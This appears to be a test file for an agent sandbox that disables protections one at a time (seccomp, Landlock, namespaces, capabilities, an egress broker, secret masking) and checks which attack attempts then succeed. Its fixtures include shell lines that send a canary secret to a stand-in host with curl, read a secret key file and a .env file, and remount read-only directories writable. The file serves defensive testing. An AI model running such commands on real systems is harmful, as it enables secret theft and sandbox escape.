import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import path from "node:path";
import type { Judge } from "../../src/core/policy/judge.ts";
import { readsPass, type WorldOptions } from "../support/brokerWorld.ts";
import { ForkFixture } from "../support/forkFixture.ts";
import { insideWorld } from "../support/insideWorld.ts";
import type { SpecChanges } from "../support/sandboxFixture.ts";
import { finish, makeSandboxFixture } from "../support/sandboxFixture.ts";
import { sandboxes } from "../../src/node/sandbox/sandboxes.ts";
import type { Category } from "./attack.ts";
import { writeAblation } from "./report.ts";
import type { AblationRow } from "./report.ts";
import { root } from "../support/repository.ts";

/** One attempt: a script whose exit code 0 means that it got through. */
interface Attempt {
  readonly title: string;
  readonly script: string;
  readonly needsRoot?: true;
}

/**
 * One protection, alone or together with those that stand behind it: with `off` switched off its attempts go through,
 * with everything on none does. `behind` are attempts that the other protections still stop with this one off.
 */
interface Ablation {
  readonly protection: string;
  readonly category: Category;
  readonly off: readonly string[];
  readonly attempts: readonly Attempt[];
  readonly behind?: readonly Attempt[];
  readonly change?: SpecChanges;
}

const kernel = (call: string): Attempt => ({ title: call, script: `./attack ${call}` });

const writeTool: Attempt = {
  title: "write into a read-only directory",
  script: "echo x > $TOOL/planted",
};
const sealedSettings: Attempt = {
  title: "change the managed settings",
  script: "echo x > /etc/managed/settings.json",
};

const ablations: readonly Ablation[] = [
  {
    protection: "denied system calls",
    category: "kernel surface",
    off: ["seccomp"],
    attempts: [
      "io_uring_setup",
      "userfaultfd",
      "keyctl",
      "ptrace",
      "memory",
      "tiocsti",
      "vsock",
    ].map(kernel),
    behind: [kernel("mount"), kernel("unshare-user"), kernel("whiteout")],
  },
  {
    protection: "denied system calls and the bound on user namespaces",
    category: "kernel surface",
    off: ["seccomp", "user-namespaces"],
    attempts: [kernel("unshare-user"), kernel("clone3-user")],
    behind: [kernel("mount")],
  },
  {
    protection: "denied system calls, the bound on user namespaces and Landlock",
    category: "kernel surface",
    off: ["seccomp", "user-namespaces", "landlock"],
    attempts: [
      {
        title: "mount in a namespace of its own",
        script:
          "unshare -Urm mount -t tmpfs none /mnt 2>/dev/null || unshare -Urm mount -t tmpfs none /tmp",
      },
    ],
  },
  {
    protection: "read-only mounts",
    category: "host damage",
    off: ["read-only"],
    attempts: [],
    behind: [writeTool, sealedSettings],
  },
  {
    protection: "Landlock",
    category: "host damage",
    off: ["landlock"],
    attempts: [],
    behind: [writeTool, sealedSettings],
  },
  {
    protection: "read-only mounts and Landlock",
    category: "host damage",
    off: ["read-only", "landlock"],
    attempts: [writeTool, sealedSettings],
  },
  {
    protection: "network namespace",
    category: "egress",
    off: ["network"],
    attempts: [
      {
        title: "see the host's interfaces",
        script: "test $(tail -n +3 /proc/net/dev | wc -l) -gt 1",
      },
    ],
  },
];

const remount: Attempt = {
  title: "make a read-only directory writable",
  script: "mount -o remount,bind,rw $TOOL && echo x > $TOOL/planted",
};

const capabilities: readonly Ablation[] = [
  {
    protection: "dropped capabilities",
    category: "kernel surface",
    off: ["capabilities"],
    attempts: [],
    behind: [kernel("raw"), remount],
  },
  {
    protection: "dropped capabilities and both inner user namespaces",
    category: "kernel surface",
    off: ["capabilities", "user-namespaces", "identity"],
    attempts: [kernel("raw")],
    behind: [remount],
  },
  {
    protection:
      "dropped capabilities, both inner user namespaces, denied system calls and Landlock",
    category: "host damage",
    off: ["capabilities", "user-namespaces", "identity", "seccomp", "landlock"],
    attempts: [remount],
  },
];

/** What the broker stops, and what is left when it lets everything pass: a judge that says yes and knows no secret. */
const brokered: readonly Attempt[] = [
  {
    title: "call a service of the host through the proxy",
    script: "curl -sf -m 5 --noproxy '' http://loopback.test:$PORT/",
  },
  {
    title: "call it without the proxy",
    script: "curl -sf -m 5 --noproxy '*' http://loopback.test:$PORT/",
  },
  {
    title: "change something elsewhere, unasked",
    script: "curl -sf -m 5 -d x=1 https://elsewhere.test/",
  },
];

const leak: Attempt = {
  title: "send a secret's value out",
  script: "curl -sf -m 5 https://elsewhere.test/canary-of-a-secret",
};

const hidden: Attempt = { title: "read the person's files", script: "cat $SECRET/key" };

/**
 * A directory for what is shown read-only. Not beneath a place that the sandbox may write: for Landlock, what lies there
 * may be written.
 */
function placeOutside(): string {
  const cache = path.join(root, ".cache");
  mkdirSync(cache, { recursive: true });
  const writable = ["/tmp", "/var/tmp", homedir()];
  return writable.some((place) => cache.startsWith(`${place}/`)) ? "/srv" : cache;
}

describe("ablation", function () {
  this.timeout(120_000);
  const tools = mkdtempSync("/tmp/holdfast-ablation-");
  const places = mkdtempSync(path.join(placeOutside(), "holdfast-ablation-"));
  const rows: AblationRow[] = [];
  const nativePath = path.join(root, "native/build/ablation/holdfast-native");

  before(() => {
    execFileSync("make", ["-s", "-C", path.join(root, "native"), "ABLATION=1"], { stdio: "pipe" });
    const source = path.join(import.meta.dirname, "attack.c");
    execFileSync("cc", ["-O1", "-o", path.join(tools, "attack"), source]);
  });
  after(() => {
    for (const made of [tools, places]) rmSync(made, { recursive: true, force: true });
    writeAblation(rows);
  });

  /** Titles of the attempts that get through. */
  const through = async (
    attempts: readonly Attempt[],
    off: readonly string[],
    shown: boolean,
  ): Promise<readonly string[]> => {
    const fixture = makeSandboxFixture();
    try {
      const tool = path.join(places, "tool");
      const secret = path.join(fixture.root, "secret");
      mkdirSync(tool, { recursive: true });
      mkdirSync(secret);
      writeFileSync(path.join(secret, "key"), "canary\n");
      execFileSync("cp", [path.join(tools, "attack"), fixture.shadow]);
      const script = attempts
        .map((attempt, index) => `(${attempt.script}) > /dev/null 2>&1 && echo through ${index}`)
        .join("\n");
      const spec = fixture.spec(["bash", "-c", `${script}\ntrue`], {
        launch: {
          env: { TOOL: tool, SECRET: secret },
          readOnly: shown ? [tool, secret] : [tool],
          files: [{ path: "/etc/managed/settings.json", content: "{}", mode: 0o644 }],
        },
      });
      const ran = await finish(await sandboxes({ nativePath, ablate: off }).launch(spec));
      assert.equal(ran.exitCode, 0, ran.stderr);
      return attempts
        .filter((_, index) => ran.stdout.includes(`through ${index}\n`))
        .map(({ title }) => title);
    } finally {
      rmSync(path.join(places, "tool"), { recursive: true, force: true });
      fixture.remove();
    }
  };

  const titles = (attempts: readonly Attempt[] = []): readonly string[] =>
    attempts.map(({ title }) => title);

  it("lets nothing through with everything on", async () => {
    const all = [...ablations, ...capabilities].flatMap(({ attempts, behind = [] }) => [
      ...attempts,
      ...behind,
    ]);
    assert.deepEqual(await through([...all, hidden], [], false), []);
  });

  for (const { protection, category, off, attempts, behind = [] } of [
    ...ablations,
    ...capabilities,
  ]) {
    it(`${category}: without ${protection}`, async () => {
      const hits = await through([...attempts, ...behind], off, false);
      rows.push({ protection, category, reopened: hits, stillBlocked: titles(behind) });
      assert.deepEqual(hits, titles(attempts));
    });
  }

  /** What gets through a broker of that kind. */
  const throughBroker = async (
    attempts: readonly Attempt[],
    options: WorldOptions,
  ): Promise<readonly string[]> => {
    const resolve = (host: string) =>
      Promise.resolve([
        { address: host === "loopback.test" ? "127.0.0.1" : "93.184.216.34", family: 4 },
      ]);
    await using inside = await insideWorld({ ...options, resolve });
    const script = attempts
      .map((attempt, index) => `(${attempt.script}) > /dev/null 2>&1 && echo through ${index}`)
      .join("\n");
    const ran = await inside.run(`PORT=80\n${script}\ntrue`);
    assert.equal(ran.exitCode, 0, ran.stderr);
    return attempts
      .filter((_, index) => ran.stdout.includes(`through ${index}\n`))
      .map(({ title }) => title);
  };

  const openToAll: Judge = (facts) => ({
    ...readsPass(facts),
    verdict: "allow",
    rule: "ablated",
    namesHost: true,
  });
  const careful: Judge = (facts) => {
    const judgement = readsPass(facts);
    return judgement.verdict === "hold" ? { ...judgement, verdict: "deny" } : judgement;
  };
  const secret = { name: "KEY", value: "canary-of-a-secret", bindings: [] };

  it("egress: without the broker's verdicts", async () => {
    assert.deepEqual(await throughBroker(brokered, { judge: careful }), []);
    const hits = await throughBroker(brokered, { judge: openToAll });
    const row = { protection: "the broker's verdicts", category: "egress" as const };
    rows.push({ ...row, reopened: hits, stillBlocked: [] });
    assert.deepEqual(hits, titles(brokered));
  });

  it("secrets: without the search for known values", async () => {
    assert.deepEqual(await throughBroker([leak], { judge: openToAll, secrets: [secret] }), []);
    const hits = await throughBroker([leak], { judge: openToAll });
    const row = { protection: "the search for known values", category: "secrets" as const };
    rows.push({ ...row, reopened: hits, stillBlocked: [] });
    assert.deepEqual(hits, titles([leak]));
  });

  it("secrets: without masks", async () => {
    const reading: Attempt = { title: "read the workspace's .env", script: "grep -q canary .env" };
    using scene = new ForkFixture();
    scene.write(".env", "API_KEY=canary-0123456789abcdef\n");
    const { fork, paths } = await scene.fork();
    const { workspace } = scene;
    const read = async (): Promise<readonly string[]> => {
      const argv = ["sh", "-c", reading.script];
      const launch = { argv, env: {}, files: [], readOnly: [], modelHosts: [] };
      const spec = { workspace, paths, fork, launch, cwd: workspace, door: false as const };
      const ran = await finish(await sandboxes({ nativePath }).launch(spec));
      return ran.exitCode === 0 ? [reading.title] : [];
    };
    assert.deepEqual(await read(), []);
    // The fork as it is before values are replaced.
    copyFileSync(path.join(workspace, ".env"), path.join(fork.shadow, ".env"));
    const hits = await read();
    rows.push({ protection: "masks", category: "secrets", reopened: hits, stillBlocked: [] });
    assert.deepEqual(hits, titles([reading]));
  });

  it("credential reading: without hiding", async () => {
    const hits = await through([hidden], [], true);
    const row = { protection: "hiding by not mounting", category: "credential reading" as const };
    rows.push({ ...row, reopened: hits, stillBlocked: [] });
    assert.deepEqual(hits, titles([hidden]));
  });
});
